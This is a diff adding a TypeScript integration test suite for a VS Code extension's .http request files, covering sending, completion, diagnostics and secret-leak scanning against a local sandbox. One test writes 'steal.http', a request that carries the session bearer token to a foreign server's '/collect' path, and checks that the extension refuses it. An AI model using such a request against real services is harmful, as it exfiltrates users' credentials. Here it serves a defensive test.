@@ -1,0 +1,211 @@
+// `.http` files in a real extension host against the sandbox: the language, the CodeLenses, a
+// request sent with the signed-in session (and its answer in the request panel), the origin rule
+// against a foreign local server (nothing sent anywhere), the problems with their quick fix, and no
+// token or client secret in any document, result or file VS Code wrote.
+import * as assert from 'node:assert/strict';
+import * as fs from 'node:fs';
+import * as http from 'node:http';
+import type { AddressInfo } from 'node:net';
+import * as path from 'node:path';
+import * as vscode from 'vscode';
+import type { MxExplorerApi } from '../../src/api';
+import type { HttpSendResult } from '../../src/ui/httpRequestSender';
+import { DEFAULT_ACCOUNT, startSandbox } from '../sandbox/server';
+import type { Sandbox } from '../sandbox/types';
+import { activateExtension, isRequestPanel } from './helpers';
+import { encodings, scanForCanaries, userDataDir } from './secretScan';
+
+const CHAINS = '/mxs/reference-data/v1/cinema-chains';
+
+describe('.http files', () => {
+  let sandbox: Sandbox;
+  let api: MxExplorerApi;
+  let folder: string;
+
+  async function writeFile(name: string, text: string): Promise<vscode.Uri> {
+    const file = path.join(folder, name);
+    fs.mkdirSync(path.dirname(file), { recursive: true });
+    fs.writeFileSync(file, text);
+    return vscode.Uri.file(file);
+  }
+
+  async function open(name: string, text: string): Promise<vscode.TextDocument> {
+    const document = await vscode.workspace.openTextDocument(await writeFile(name, text));
+    await vscode.window.showTextDocument(document);
+    return document;
+  }
+
+  async function diagnosticsOf(uri: vscode.Uri, wanted: (d: readonly vscode.Diagnostic[]) => boolean): Promise<readonly vscode.Diagnostic[]> {
+    const now = vscode.languages.getDiagnostics(uri);
+    if (wanted(now)) return now;
+    return new Promise((resolve) => {
+      const subscription = vscode.languages.onDidChangeDiagnostics((event) => {
+        if (!event.uris.some((u) => u.toString() === uri.toString())) return;
+        const found = vscode.languages.getDiagnostics(uri);
+        if (wanted(found)) {
+          subscription.dispose();
+          resolve(found);
+        }
+      });
+    });
+  }
+
+  before(async () => {
+    api = await activateExtension();
+    sandbox = await startSandbox();
+    const workspace = vscode.workspace.workspaceFolders?.[0];
+    assert.ok(workspace, 'the tests run with a workspace folder open');
+    folder = path.join(workspace.uri.fsPath, 'http-tests');
+    await api.session.signIn({
+      environment: { id: 'custom:sandbox', name: 'Local sandbox', kind: 'custom', authUrl: sandbox.authUrl, apiUrl: sandbox.apiUrl },
+      username: DEFAULT_ACCOUNT.username,
+      password: DEFAULT_ACCOUNT.password,
+      clientId: 'mx-explorer-http-files',
+      clientSecret: DEFAULT_ACCOUNT.clientSecret,
+    });
+  });
+  beforeEach(() => sandbox.clearRequests());
+  after(async () => {
+    await vscode.commands.executeCommand('workbench.action.closeAllEditors');
+    await api.session.signOut({ forgetProfile: true });
+    await sandbox.stop();
+    fs.rmSync(folder, { recursive: true, force: true });
+  });
+
+  it('opens .http and .rest files as language http, with MX: Send and MX: Send All lenses', async () => {
+    const rest = await open('a.rest', 'GET /x\n');
+    assert.equal(rest.languageId, 'http');
+    const document = await open('lenses.http', `GET {{mxApi}}${CHAINS}\n\n###\nGET ${CHAINS}\n`);
+    assert.equal(document.languageId, 'http');
+    const lenses = await vscode.commands.executeCommand<vscode.CodeLens[]>('vscode.executeCodeLensProvider', document.uri);
+    const ours = lenses.filter((l) => l.command?.title.startsWith('MX:'));
+    assert.deepEqual(
+      ours.map((l) => [l.range.start.line, l.command?.title, l.command?.command]),
+      [
+        [0, 'MX: Send', 'mx.http.send'],
+        [0, 'MX: Send All', 'mx.http.sendAll'],
+        [3, 'MX: Send', 'mx.http.send'],
+      ],
+    );
+    // completion: documented paths after {{mxApi}}, variables inside {{
+    const complete = await open('complete.http', 'GET {{mxApi}}/mxs\nX-Trace: {{mx');
+    const paths = await vscode.commands.executeCommand<vscode.CompletionList>('vscode.executeCompletionItemProvider', complete.uri, new vscode.Position(0, 17));
+    assert.ok(paths.items.some((i) => i.label === '/mxs/reference-data/v1/cinema-chains/{cinemaChainId}/sites'), 'the documented paths are offered');
+    const variables = await vscode.commands.executeCommand<vscode.CompletionList>('vscode.executeCompletionItemProvider', complete.uri, new vscode.Position(1, 13));
+    assert.ok(variables.items.some((i) => i.label === 'mxApi'));
+  });
+
+  it('sends a request of a file with the session, variables from the env file, and shows the answer in the panel', async () => {
+    await writeFile('env/http-client.env.json', JSON.stringify({ $shared: { chains: CHAINS } }));
+    const document = await open(
+      'env/chains.http',
+      `@trace = from-file\n\n### Cinema chains\n# @name chains\nGET {{mxApi}}{{chains}}\nAuthorization: Bearer {{$auth.token("mx")}}\nMX-Api-Client-Secret: {{$mx.clientSecret}}\nX-Trace: {{trace}}\n`,
+    );
+    const before = document.getText();
+    const panelOpened = new Promise<void>((resolve) => {
+      if (vscode.window.tabGroups.all.some((g) => g.tabs.some(isRequestPanel))) resolve();
+      const subscription = vscode.window.tabGroups.onDidChangeTabs((e) => {
+        if (e.opened.some(isRequestPanel)) {
+          subscription.dispose();
+          resolve();
+        }
+      });
+    });
+    const result = await vscode.commands.executeCommand<HttpSendResult>('mx.http.send', document.uri, 0);
+    assert.deepEqual(result, { sent: true, line: 4, status: 200, statusText: 'OK' });
+    await panelOpened;
+    const sent = sandbox.requests.filter((r) => r.server === 'api');
+    assert.equal(sent.length, 1);
+    assert.equal(sent[0].path, CHAINS);
+    assert.equal(sent[0].headers['x-trace'], 'from-file');
+    assert.equal(sent[0].headers['mx-api-client-secret'], DEFAULT_ACCOUNT.clientSecret);
+    const token = (sent[0].headers.authorization ?? '').replace(/^Bearer /, '');
+    assert.ok(token.length >= 16, 'the session token was sent');
+    assert.equal(document.getText(), before, 'the file is unchanged');
+    const secrets = [token, DEFAULT_ACCOUNT.clientSecret];
+    for (const doc of vscode.workspace.textDocuments) {
+      for (const secret of secrets) assert.ok(!doc.getText().includes(secret), `no secret in ${doc.uri.toString()}`);
+    }
+    assert.ok(!JSON.stringify(result).includes(token));
+    // hovers name a variable's value and source, and never show a credential
+    const hoverText = async (line: number, character: number): Promise<string> => {
+      const hovers = await vscode.commands.executeCommand<vscode.Hover[]>('vscode.executeHoverProvider', document.uri, new vscode.Position(line, character));
+      return hovers.flatMap((h) => h.contents.map((c) => (typeof c === 'string' ? c : c.value))).join('\n');
+    };
+    assert.match(await hoverText(7, 12), /`\{\{trace\}\}` = `from-file`/);
+    const tokenHover = await hoverText(5, 25);
+    assert.match(tokenHover, /access token: added by MX Explorer at send time/);
+    for (const secret of secrets) assert.ok(!tokenHover.includes(secret) && !(await hoverText(6, 30)).includes(secret));
+    // the log and everything else VS Code wrote
+    const scan = scanForCanaries(userDataDir(), secrets.flatMap(encodings));
+    assert.ok(scan.filesScanned > 0, 'the scan read the files VS Code wrote');
+    assert.deepEqual(scan.hits, []);
+  });
+
+  it('refuses the session credentials for a foreign local server: nothing is sent there or anywhere', async () => {
+    const foreign = http.createServer((_req, res) => res.end('{}'));
+    await new Promise<void>((resolve) => foreign.listen(0, '127.0.0.1', resolve));
+    let hits = 0;
+    foreign.on('request', () => hits++);
+    try {
+      const { port } = foreign.address() as AddressInfo;
+      const document = await open('cloned/steal.http', `GET http://127.0.0.1:${port}/collect\nAuthorization: Bearer {{$auth.token("mx")}}\n`);
+      const result = await vscode.commands.executeCommand<HttpSendResult>('mx.http.send', document.uri, 0);
+      assert.equal(result.sent, false);
+      assert.ok(!result.sent && result.kind === 'refused', JSON.stringify(result));
+      assert.match(result.sent ? '' : result.message, /refused/);
+      assert.equal(hits, 0, 'the foreign server got nothing');
+      assert.deepEqual(sandbox.requests, [], 'nor did the sandbox (no token was even fetched)');
+    } finally {
+      await new Promise((resolve) => foreign.close(resolve));
+    }
+  });
+
+  it('Send All sends the file in order; an unknown variable is a problem and that request is not sent', async () => {
+    const document = await open('all.http', `GET ${CHAINS}\n\n###\nGET ${CHAINS}/{{missingChain}}/sites\n\n###\nGET {{mxApi}}${CHAINS}\n`);
+    const results = await vscode.commands.executeCommand<HttpSendResult[]>('mx.http.sendAll', document.uri);
+    assert.deepEqual(
+      results.map((r) => (r.sent ? r.status : r.kind)),
+      [200, 'missing', 200],
+    );
+    assert.equal(sandbox.requests.filter((r) => r.server === 'api').length, 2);
+    const problems = await diagnosticsOf(document.uri, (d) => d.length > 0);
+    assert.deepEqual(
+      problems.map((p) => [p.source, p.code, p.range.start.line]),
+      [['MX Explorer', 'unknownVariable', 3]],
+    );
+  });
+
+  it('a literal token is a problem whose quick fix puts in the session expression', async () => {
+    const document = await open('literal.http', `GET ${CHAINS}\nAuthorization: Bearer eyJhbGciOiJub25lIn0.e30.literal\n`);
+    const problems = await diagnosticsOf(document.uri, (d) => d.some((p) => p.code === 'literalToken'));
+    const literal = problems.find((p) => p.code === 'literalToken');
+    assert.equal(literal?.source, 'MX Explorer');
+    const actions = await vscode.commands.executeCommand<vscode.CodeAction[]>('vscode.executeCodeActionProvider', document.uri, literal!.range);
+    const fix = actions.find((a) => a.title.startsWith('Use {{$auth.token("mx")}}'));
+    assert.ok(fix?.edit, 'a quick fix is offered');
+    assert.ok(await vscode.workspace.applyEdit(fix.edit));
+    assert.equal(document.lineAt(1).text, 'Authorization: Bearer {{$auth.token("mx")}}');
+    await diagnosticsOf(document.uri, (d) => !d.some((p) => p.code === 'literalToken'));
+    const result = await vscode.commands.executeCommand<HttpSendResult>('mx.http.send', document.uri, 0);
+    assert.ok(result.sent && result.status === 200, JSON.stringify(result));
+  });
+
+  it('signed out, sending sends nothing and says to sign in', async () => {
+    const document = await open('signedOut.http', `GET ${CHAINS}\n`);
+    await api.session.signOut();
+    try {
+      const result = await vscode.commands.executeCommand<HttpSendResult>('mx.http.send', document.uri, 0);
+      assert.ok(!result.sent && result.kind === 'signedOut', JSON.stringify(result));
+      assert.deepEqual(sandbox.requests, []);
+    } finally {
+      await api.session.signIn({
+        environment: { id: 'custom:sandbox', name: 'Local sandbox', kind: 'custom', authUrl: sandbox.authUrl, apiUrl: sandbox.apiUrl },
+        username: DEFAULT_ACCOUNT.username,
+        password: DEFAULT_ACCOUNT.password,
+        clientId: 'mx-explorer-http-files',
+        clientSecret: DEFAULT_ACCOUNT.clientSecret,
+      });
+    }
+  });
+});
